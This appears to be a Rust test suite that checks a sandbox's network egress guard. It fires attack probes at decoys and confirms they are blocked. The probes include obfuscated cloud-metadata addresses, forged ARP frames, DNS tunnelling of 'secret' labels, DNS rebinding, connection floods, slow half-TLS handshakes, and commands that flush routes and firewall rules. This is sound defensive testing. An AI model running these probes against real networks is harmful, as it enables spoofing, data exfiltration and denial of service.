//! P-N and E-N: the addresses that hostile code tries to reach, and the methods.
//!
//! Controls run the same probes in a namespace whose default route leads straight to the decoys.

use std::process::Command;
use std::time::Duration;

use crate::ground::{Ground, Run, Sandbox};
use crate::harness::{eventually, run};
use crate::island::{self, OUTSIDE};
use crate::report::{Finding, Row, RowFailure, ensure};
use crate::test_network::{PROBE, UNGUARDED_GATEWAY, test_network};

const OPEN: &[&str] = &["--net", "open"];
const UP: &[&str] = &["--allow", "up.example", "--allow", "tcp://db.example:5432"];

const fn row(
    id: &'static str,
    what: &'static str,
    sandbox: &'static [&'static str],
    attack: fn(&Sandbox<'_>) -> Finding,
    control: fn(&Ground) -> Finding,
) -> Row {
    Row { id, what, sandbox, attack, control }
}

pub(crate) const ROWS: &[Row] = &[
    row("P-N1", "the cloud's metadata, in every spelling", OPEN, metadata, metadata_unguarded),
    row("P-N2", "gateway, host, API, other sandboxes", OPEN, host, host_unguarded),
    row("P-N3", "forged ARP and source addresses", OPEN, spoof, spoof_unguarded),
    row("P-N4", "raw and packet sockets", OPEN, raw_sockets, raw_sockets_unguarded),
    row(
        "P-N5",
        "around the proxy: no environment, QUIC, ICMP, another resolver",
        UP,
        around,
        around_unguarded,
    ),
    row("P-N7", "a name that leads inside, and one that comes to", INSIDE, rebinding, rebinding_unguarded),
    row("P-N10", "a flood of connections", UP, flood, flood_unguarded),
    row("E-N1", "any port by address, no name in it", UP, by_address, by_address_unguarded),
    row("E-N2", "private, carrier's, mapped and translated addresses", OPEN, addresses, addresses_unguarded),
    row("E-N3", "IPv6 instead of IPv4", UP, six, six_unguarded),
    row("E-N4", "UDP, ICMP, other protocols", OPEN, protocols, protocols_unguarded),
    row("E-N5", "a tunnel through names", TUNNEL, tunnel, tunnel_unguarded),
    row("E-N6", "an address of one's own with a good name", UP, forged, forged_unguarded),
    row("E-N7", "root inside rewrites routes and rules", UP, rewrite, rewrite_unguarded),
    row("E-N8", "an address of another sandbox", UP, foreign, foreign_unguarded),
    row("E-N9", "the egress process is killed", UP, killed, killed_unguarded),
    row("E-N10", "half a hello, for ever, many times", UP, slow, slow_unguarded),
];

const INSIDE: &[&str] = &["--allow", "private.example:8080", "--allow", "tcp://up.example:8080"];
const TUNNEL: &[&str] = &["--allow", "*.tunnel.example"];

// --- Judging probes

pub(crate) fn program(body: &str) -> String {
    format!("{PROBE}\n{body}\n")
}

/// Every attempt of a probe failed, and no decoy received a connection.
pub(crate) fn blocked(sandbox: &Sandbox<'_>, body: &str) -> Finding {
    let before = test_network().hits();
    let run = sandbox.python(&program(body));
    let tried = attempts(&run)?;
    let through: Vec<&str> = run.out.lines().filter(|line| line.contains("REACHED")).collect();
    ensure(through.is_empty(), || format!("got through: {through:?}"))?;
    let after = test_network().hits();
    ensure(after == before, || format!("{} came to the decoys: {}", after - before, run.out))?;
    Ok(format!("{tried} attempts, none arrived"))
}

/// The same without a proxy: every attempt arrives.
fn arrives(body: &str) -> Finding {
    let run = test_network().weakly(&program(body));
    let tried = attempts(&run)?;
    let stuck: Vec<&str> = run.out.lines().filter(|line| !line.contains("REACHED")).collect();
    ensure(stuck.is_empty(), || format!("did not arrive: {stuck:?} {}", run.err))?;
    Ok(format!("all {tried} arrive from a namespace with a route"))
}

fn attempts(run: &Run) -> Result<usize, RowFailure> {
    let count = run.out.lines().count();
    ensure(run.ok() && count > 0, || format!("the probe did not run: {run:?}"))?;
    Ok(count)
}

/// Allowed hosts are still reachable.
fn still_works(sandbox: &Sandbox<'_>) -> Result<(), RowFailure> {
    let run = sandbox.python(&program("tell('db', reach('db.example', 5432))"));
    ensure(run.out.contains("REACHED"), || format!("what is allowed does not work: {run:?}"))
}

// --- P-N1, E-N2: addresses

const METADATA: &str = "
for name in ['169.254.169.254', '2852039166', '0251.0376.0251.0376', '0xa9fea9fe', '169.254.43518',
             '::ffff:169.254.169.254', 'fd00:ec2::254']:
    for port in (443, 8080): tell('%s-%d' % (name, port), reach(name, port))
";

fn metadata(sandbox: &Sandbox<'_>) -> Finding {
    blocked(sandbox, METADATA)
}

fn metadata_unguarded(_: &Ground) -> Finding {
    arrives(METADATA)
}

const ADDRESSES: &str = "
for name in ['10.20.0.1', '100.64.0.1', '::ffff:10.20.0.1', 'private.example', 'carrier.example', 'metadata.example']:
    for port in (443, 5432, 8080): tell('%s-%d' % (name, port), reach(name, port, hello(b'private.example') if port == 443 else b''))
";

fn addresses(sandbox: &Sandbox<'_>) -> Finding {
    let note = blocked(sandbox, ADDRESSES)?;
    // Forms that only the proxy could translate.
    let other =
        "for name in ['64:ff9b::a14:1', '2002:a14:1::1', '::10.20.0.1']: tell(name, reach(name, 8080))";
    blocked(sandbox, other)?;
    Ok(note)
}

fn addresses_unguarded(_: &Ground) -> Finding {
    arrives(ADDRESSES)
}

// --- P-N2: the host and its neighbours

fn host_probe(gateway: &str, api: u16) -> String {
    format!(
        "for port in (22, 443, 5432, 8080): tell('gateway-%d' % port, reach('{gateway}', port))\n\
         for name in ('{OUTSIDE}',): tell('api', reach(name, {api}, b'GET /healthz HTTP/1.0\\r\\n\\r\\n', b'ok'))"
    )
}

fn host(sandbox: &Sandbox<'_>) -> Finding {
    let api = api_port(sandbox.ground);
    let note = blocked(sandbox, &host_probe("10.88.0.1", api))?;
    // A neighbour has the same address as the sandbox: it is not reachable by it.
    let neighbour = sandbox.python(&program(
        "tell('guest', reach('10.88.0.2', 10000, want=b'{'))\ntell('loopback', reach('127.0.0.1', 8080))",
    ));
    ensure(!neighbour.out.contains("loopback REACHED"), || format!("{neighbour:?}"))?;
    Ok(note)
}

fn api_port(ground: &Ground) -> u16 {
    let url = ground.daemon.url();
    url.rsplit(':').next().and_then(|port| port.parse().ok()).expect("an address ends with its port")
}

/// On every address of this namespace, a listener answers connections from the unguarded path.
fn host_unguarded(_: &Ground) -> Finding {
    let open: Vec<island::Decoy> =
        crate::test_network::PORTS.iter().map(|port| island::Decoy::open(UNGUARDED_GATEWAY, *port)).collect();
    let body = format!(
        "for port in (22, 443, 5432, 8080): tell('gateway-%d' % port, reach('{UNGUARDED_GATEWAY}', port))"
    );
    let finding = arrives(&body);
    ensure(open.iter().all(|decoy| decoy.hits() == 1), || "the gateway's decoys saw nobody".to_owned())?;
    finding
}

// --- P-N3, P-N4, E-N8: packets that the attacker creates

const RAW: &str = "
for name, kind in [('packet', (socket.AF_PACKET, socket.SOCK_RAW, socket.htons(3))),
                   ('raw-icmp', (socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)),
                   ('raw-tcp', (socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)),
                   ('raw6', (socket.AF_INET6, socket.SOCK_RAW, socket.IPPROTO_ICMPV6))]:
    try: socket.socket(*kind); tell(name, 'REACHED')
    except OSError as error: tell(name, 'no: %s' % error)
";

fn raw_sockets(sandbox: &Sandbox<'_>) -> Finding {
    blocked(sandbox, RAW)
}

fn raw_sockets_unguarded(_: &Ground) -> Finding {
    arrives(RAW)
}

/// Claims the gateway's address by ARP; prints whether the frame was sent.
const ARP: &str = "
try:
    s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(0x0806)); s.bind(('eth0', 0))
    mac = open('/sys/class/net/eth0/address').read().strip()
    mac = bytes(int(part, 16) for part in mac.split(':'))
    me = socket.inet_aton('10.9.8.7')
    frame = b'\\xff' * 6 + mac + b'\\x08\\x06' + b'\\0\\x01\\x08\\0\\x06\\x04\\0\\x02' + mac + me + b'\\xff' * 6 + me
    tell('arp', 'REACHED' if s.send(frame) == len(frame) else 'no')
except OSError as error: tell('arp', 'no: %s' % error)
";

fn spoof(sandbox: &Sandbox<'_>) -> Finding {
    let note = blocked(sandbox, ARP)?;
    // An address that is not its own gets no answer, and its own address still works.
    let changed = sandbox
        .sh("ip address add 10.9.8.7/8 dev eth0 2>&1; ip link set eth0 address 02:00:00:00:00:99 2>&1; true");
    let bound = "
s = socket.socket(); s.settimeout(3)
try:
    s.bind(('10.9.8.7', 0)); s.connect(('198.51.100.1', 8080)); data = s.recv(16)
    tell('foreign', 'REACHED' if b'ready' in data else 'closed')
except OSError as error: tell('foreign', 'no: %s' % error)
";
    blocked(sandbox, bound)?;
    Ok(format!("{note}; {}", changed.out.lines().next().unwrap_or("it could change its own interface")))
}

fn spoof_unguarded(_: &Ground) -> Finding {
    arrives(ARP)
}

const FOREIGN: &str = "
for source, target in [('10.88.0.6', '198.51.100.1'), ('10.77.0.2', '198.51.100.1')]:
    s = socket.socket(); s.settimeout(3)
    s.setsockopt(socket.SOL_IP, 15, 1)
    try:
        s.bind((source, 0)); s.connect((target, 8080))
        tell(source, 'REACHED' if b'ready' in s.recv(16) else 'closed')
    except OSError as error: tell(source, 'no: %s' % error)
";

fn foreign(sandbox: &Sandbox<'_>) -> Finding {
    sandbox.sh("ip address add 10.88.0.6/29 dev eth0 2>&1; ip address add 10.77.0.2/32 dev lo 2>&1; true");
    blocked(sandbox, FOREIGN)
}

fn foreign_unguarded(_: &Ground) -> Finding {
    // Unguarded, an added address works like the first one.
    let body = format!("os.system('ip address add 10.88.0.6/32 dev eth0 2>/dev/null')\n{FOREIGN}");
    run(Command::new("ip").args(["route", "replace", "10.88.0.6/32", "dev", "weak0"]));
    let finding = arrives(&body);
    run(Command::new("ip").args(["route", "del", "10.88.0.6/32"]));
    finding
}

// --- P-N5, E-N1, E-N3, E-N4: bypassing the proxy

const UDP: &str = "
def ask(name, host, port, data, family=socket.AF_INET):
    s = socket.socket(family, socket.SOCK_DGRAM); s.settimeout(2)
    try:
        s.sendto(data, (host, port)); tell(name, 'REACHED' if s.recv(2048) == data else 'answered by another')
    except OSError as error: tell(name, 'no: %s' % error)
";

fn around_probe() -> String {
    format!(
        "{UDP}\n\
         os.environ.clear()\n\
         for port in (22, 8080): tell('bare-%d' % port, reach('{OUTSIDE}', port))\n\
         ask('quic', '{OUTSIDE}', 443, b'\\xc0' + bytes(1199))\n\
         ask('resolver', '{OUTSIDE}', 53, b'\\x12\\x34\\x01\\0\\0\\x01\\0\\0\\0\\0\\0\\0\\x02up\\x07example\\0\\0\\x01\\0\\x01')"
    )
}

fn around(sandbox: &Sandbox<'_>) -> Finding {
    let before = test_network().datagrams();
    let note = blocked(sandbox, &around_probe())?;
    ensure(test_network().datagrams() == before, || "a datagram arrived".to_owned())?;
    let ping = sandbox.sh(&format!("ping -c 1 -W 2 {OUTSIDE}"));
    ensure(!ping.ok(), || format!("a ping was answered: {ping:?}"))?;
    still_works(sandbox)?;
    Ok(format!("{note}; no datagram and no echo either"))
}

fn around_unguarded(_: &Ground) -> Finding {
    arrives(&around_probe())
}

const BY_ADDRESS: &str = "
for port in (22, 443, 5432, 8080):
    tell('plain-%d' % port, reach('198.51.100.1', port))
    tell('hello-%d' % port, reach('198.51.100.1', port, hello(None)))
    tell('text-%d' % port, reach('198.51.100.1', port, b'SSH-2.0-x\\r\\n'))
";

fn by_address(sandbox: &Sandbox<'_>) -> Finding {
    let note = blocked(sandbox, BY_ADDRESS)?;
    still_works(sandbox)?;
    Ok(note)
}

fn by_address_unguarded(_: &Ground) -> Finding {
    arrives(BY_ADDRESS)
}

const SIX: &str = "
for port in (22, 443, 8080):
    tell('six-%d' % port, reach('2001:db8:51::1', port))
    tell('six-hello-%d' % port, reach('2001:db8:51::1', port, hello(b'six.example')))
tell('six-name', reach('six.example', 8080))
";

fn six(sandbox: &Sandbox<'_>) -> Finding {
    blocked(sandbox, SIX)
}

fn six_unguarded(_: &Ground) -> Finding {
    arrives(SIX)
}

fn protocols_probe() -> String {
    format!(
        "{UDP}\n\
         for port in (53, 443): ask('udp-%d' % port, '{OUTSIDE}', port, b'x' * 64)\n"
    )
}

fn protocols(sandbox: &Sandbox<'_>) -> Finding {
    let before = test_network().datagrams();
    blocked(sandbox, &protocols_probe())?;
    ensure(test_network().datagrams() == before, || "a datagram arrived".to_owned())?;
    let kinds = "
for name, kind in [('sctp', (socket.AF_INET, socket.SOCK_STREAM, 132)), ('gre', (socket.AF_INET, socket.SOCK_RAW, 47)),
                   ('ping', (socket.AF_INET, socket.SOCK_DGRAM, 1))]:
    try:
        s = socket.socket(*kind); s.settimeout(2)
        if name == 'ping': s.sendto(b'\\x08\\0\\xf7\\xff\\0\\0\\0\\0', ('198.51.100.1', 0)); s.recv(64); tell(name, 'REACHED')
        else: s.connect(('198.51.100.1', 8080)); s.settimeout(2); s.recv(1); tell(name, 'REACHED')
    except OSError as error: tell(name, 'no: %s' % error)
";
    blocked(sandbox, kinds)
}

fn protocols_unguarded(_: &Ground) -> Finding {
    arrives(&protocols_probe())
}

// --- P-N7: names that resolve to internal addresses

const REBINDING: &str =
    "tell('private', reach('private.example', 8080))\ntell('turned', reach('up.example', 8080))";

/// While it lives, `up.example`, which resolved to the outside before, resolves to another address.
struct RepointedName {
    hosts: String,
}

impl RepointedName {
    fn to(address: &str) -> Self {
        let hosts = std::fs::read_to_string("/etc/hosts").unwrap();
        let without = |line: &str| {
            let words = line.split(' ').filter(|word| *word != "up.example");
            format!("{}\n", words.collect::<Vec<_>>().join(" "))
        };
        let other: String = hosts.lines().map(without).collect();
        island::rewrite_hosts(&format!("{other}{address} up.example\n"));
        Self { hosts }
    }
}

impl Drop for RepointedName {
    fn drop(&mut self) {
        island::rewrite_hosts(&self.hosts);
    }
}

fn rebinding(sandbox: &Sandbox<'_>) -> Finding {
    let leads = || sandbox.python(&program("tell('up', reach('up.example', 8080))")).out.contains("REACHED");
    for address in ["127.0.0.1", "10.20.0.1", "169.254.169.254"] {
        eventually("the name to lead outside", || leads().then_some(()));
        let before = test_network().hits_at(address);
        let turned = RepointedName::to(address);
        // An answer is cached for some seconds: until then the previous one, which was checked as well, is used.
        eventually("the new answer to count", || {
            let run = sandbox.python(&program(REBINDING));
            (run.ok() && !run.out.contains("REACHED")).then_some(())
        });
        drop(turned);
        let after = test_network().hits_at(address);
        ensure(after == before, || format!("{} came to {address}", after - before))?;
    }
    Ok("each answer is checked before it is dialled; 3 addresses refused".to_owned())
}

fn rebinding_unguarded(_: &Ground) -> Finding {
    let _turned = RepointedName::to("10.20.0.1");
    arrives(REBINDING)
}

// --- P-N10, E-N10: floods

const FLOOD: &str = "
held = []
for number in range(300):
    s = socket.socket(); s.settimeout(10)
    try:
        s.connect((socket.gethostbyname('db.example'), 5432)); held.append(s)
    except OSError: pass
alive = 0
for s in held:
    try:
        s.settimeout(5)
        if s.recv(6) == b'ready\\n': alive += 1
    except OSError: pass
print('alive=%d' % alive)
";

fn flood(sandbox: &Sandbox<'_>) -> Finding {
    let other = sandbox.ground.sandbox(UP);
    let run = sandbox.python(&program(FLOOD));
    let alive = run.number("alive");
    ensure(alive > 0 && alive <= 64, || format!("{alive} of 300 connections at once, where 64 are allowed"))?;
    still_works(&other)?;
    other.delete();
    eventually("the flood to be over", || still_works(sandbox).ok());
    Ok(format!("{alive} of 300 connections at once; another sandbox had its own meanwhile"))
}

fn flood_unguarded(_: &Ground) -> Finding {
    let run = test_network().weakly(&program(FLOOD));
    let alive = run.number("alive");
    ensure(alive == 300, || format!("only {alive} of 300: {run:?}"))?;
    Ok("all 300 from a namespace with a route".to_owned())
}

/// Half a ClientHello on many connections; prints how many are still open after the time limit for a ClientHello.
const SLOW: &str = "
held = []
half = hello(b'up.example')[:40]
for number in range(40):
    s = socket.socket(); s.settimeout(10)
    try: s.connect((socket.gethostbyname('up.example'), 443)); s.sendall(half[:1 + number]); held.append(s)
    except OSError: pass
began = time.monotonic()
while held and time.monotonic() - began < float(sys.argv[1] if len(sys.argv) > 1 else 14):
    readable, _, _ = select.select(held, [], [], 1)
    for s in readable:
        try:
            if not s.recv(64): held.remove(s)
        except OSError: held.remove(s)
print('open=%d' % len(held))
";

fn slow(sandbox: &Sandbox<'_>) -> Finding {
    let other = sandbox.ground.sandbox(UP);
    let before = test_network().hits();
    let exec = sandbox.start(&serde_json::json!({ "argv": ["python3", "-c", program(SLOW)] }));
    still_works(&other)?;
    other.delete();
    let ended = sandbox.wait(&exec);
    let output = sandbox.ask("GET", &format!("/execs/{exec}/output?format=raw")).text();
    ensure(output.contains("open=0"), || {
        format!("connections that say half a hello stay: {output} {ended}")
    })?;
    ensure(test_network().hits() == before + 1, || "half a hello reached a host".to_owned())?;
    Ok("40 half hellos were cut off in time, and nobody else was held up".to_owned())
}

fn slow_unguarded(_: &Ground) -> Finding {
    let run = test_network().weakly(&program(SLOW));
    ensure(run.number("open") == 40, || format!("{run:?}"))?;
    Ok("a server without a guard holds all 40".to_owned())
}

// --- E-N5: names as a tunnel

const ASK_NAMES: &str = "
def question(name, kind):
    labels = b''.join(bytes([len(part)]) + part.encode() for part in name.split('.'))
    return b'\\x12\\x34\\x01\\0\\0\\x01\\0\\0\\0\\0\\0\\0' + labels + b'\\0' + struct.pack('>HH', kind, 1)

def asked(server, name, kind):
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(3)
    try:
        s.sendto(question(name, kind), (server, 53)); answer = s.recv(2048)
        return answer[3] & 15, struct.unpack('>H', answer[6:8])[0], answer
    except OSError: return None, 0, b''
";

fn tunnel(sandbox: &Sandbox<'_>) -> Finding {
    let before = test_network().tunnelled();
    let body = format!(
        "{ASK_NAMES}\n\
         servers = [line.split()[1] for line in open('/etc/resolv.conf') if line.startswith('nameserver')]\n\
         server = servers[0]\n\
         for kind in (16, 10, 15, 33, 255): tell('kind-%d' % kind, 'ANSWERED' if asked(server, 'a.tunnel.example', kind)[1] else 'empty')\n\
         tell('other', 'rcode-%s' % asked(server, 'secret.tunnel.elsewhere', 1)[0])\n\
         tell('elsewhere', 'rcode-%s' % asked('{OUTSIDE}', 'secret.tunnel.elsewhere', 1)[0])\n\
         answered = 0\n\
         for number in range(1500):\n\
         \x20 code, count, _ = asked(server, 'x%d.secret.tunnel.example' % number, 1)\n\
         \x20 answered += count > 0\n\
         \x20 if number % 100 == 99: time.sleep(0.5)\n\
         print('answered=%d' % answered)\n"
    );
    let run = sandbox.python(&program(&body));
    ensure(run.ok(), || format!("{run:?}"))?;
    ensure(!run.out.contains("ANSWERED"), || format!("a record that carries data: {}", run.out))?;
    ensure(run.out.contains("other rcode-3"), || {
        format!("a name nobody allowed was not refused: {}", run.out)
    })?;
    let answered = run.number("answered");
    ensure(answered > 0 && answered < 1000, || format!("{answered} of 1500 new names in a minute"))?;
    ensure(test_network().tunnelled() == before, || "a question left the host".to_owned())?;
    Ok(format!("{answered} of 1500 new names were answered, none was asked of anybody"))
}

fn tunnel_unguarded(_: &Ground) -> Finding {
    let before = test_network().tunnelled();
    let body = format!("{ASK_NAMES}\ntell('asked', asked('{OUTSIDE}', 'secret.tunnel.example', 16)[0])");
    test_network().weakly(&program(&body));
    ensure(test_network().tunnelled() == before + 1, || "the question did not arrive".to_owned())?;
    Ok("the same question reaches a resolver outside".to_owned())
}

// --- E-N6, E-N7: an allowed name on a forbidden address, and the sandbox's own rules

const FORGED: &str = "
for address in ['10.20.0.1', '127.0.0.1', '169.254.169.254', '100.64.0.1']:
    s = 'tell(\"%s\", reach(\"%s\", 443, hello(b\"up.example\")))' % (address, address)
    if address != '127.0.0.1' or len(sys.argv) > 1: exec(s)
";

fn forged(sandbox: &Sandbox<'_>) -> Finding {
    let inside = ["10.20.0.1", "169.254.169.254", "100.64.0.1"];
    let before: Vec<usize> = inside.iter().map(|address| test_network().hits_at(address)).collect();
    // Such a connection, if it succeeds, goes to the address of the name.
    let run = sandbox.python(&program(FORGED));
    attempts(&run)?;
    sandbox.sh("echo '10.20.0.1 up.example' >> /etc/hosts");
    sandbox.python(&program("tell('hosts', reach('up.example', 443, hello(b'up.example')))"));
    let after: Vec<usize> = inside.iter().map(|address| test_network().hits_at(address)).collect();
    ensure(before == after, || format!("an address the sandbox chose was dialled: {run:?}"))?;
    Ok("no address of the sandbox's choice was dialled".to_owned())
}

fn forged_unguarded(_: &Ground) -> Finding {
    arrives(FORGED)
}

const REWRITE: &str = "for port in (22, 8080): tell('port-%d' % port, reach('198.51.100.1', port))";

fn rewrite(sandbox: &Sandbox<'_>) -> Finding {
    let said = sandbox.sh(
        "for line in 'ip route flush table all' 'ip rule add pref 1 lookup main' 'ip route add default via 10.88.0.1' \
         'ip link add x type dummy' 'nft flush ruleset' 'iptables -F' 'sysctl -w net.ipv4.ip_forward=1'; \
         do $line 2>&1 | head -1; done; true",
    );
    let note = blocked(sandbox, REWRITE)?;
    Ok(format!("{note}; {}", said.out.lines().next().unwrap_or_default()))
}

fn rewrite_unguarded(_: &Ground) -> Finding {
    arrives(&format!("os.system('ip route replace default via {UNGUARDED_GATEWAY}')\n{REWRITE}"))
}

// --- E-N9: no process behind the listeners

fn killed(sandbox: &Sandbox<'_>) -> Finding {
    still_works(sandbox)?;
    // A program that sends continuously, so that the process ends in the middle of it.
    let talk = "
end = time.monotonic() + 8
while time.monotonic() < end:
    for host, port in [('198.51.100.1', 22), ('10.20.0.1', 8080), ('198.51.100.1', 8080)]:
        if reach(host, port, patience=0.3) == 'REACHED': print('THROUGH', host, port, flush=True)
";
    let exec = sandbox.start(&serde_json::json!({ "argv": ["python3", "-c", program(talk)] }));
    let mut seen = Vec::new();
    for _ in 0..4 {
        let process =
            eventually("an egress process", || sandbox.ground.daemon.egress_processes().first().copied());
        if seen.contains(&process) {
            std::thread::sleep(Duration::from_millis(100));
            continue;
        }
        seen.push(process);
        run(Command::new("kill").args(["-9", &process.to_string()]));
        std::thread::sleep(Duration::from_millis(300));
    }
    sandbox.wait(&exec);
    let output = sandbox.ask("GET", &format!("/execs/{exec}/output?format=raw")).text();
    ensure(!output.contains("THROUGH"), || format!("it leaked: {output}"))?;
    eventually("what is allowed to work again", || still_works(sandbox).ok());
    Ok(format!("killed {} times; nothing leaked, and it came back", seen.len()))
}

fn killed_unguarded(_: &Ground) -> Finding {
    arrives("for port in (22, 8080): tell('port-%d' % port, reach('198.51.100.1', port))")
}
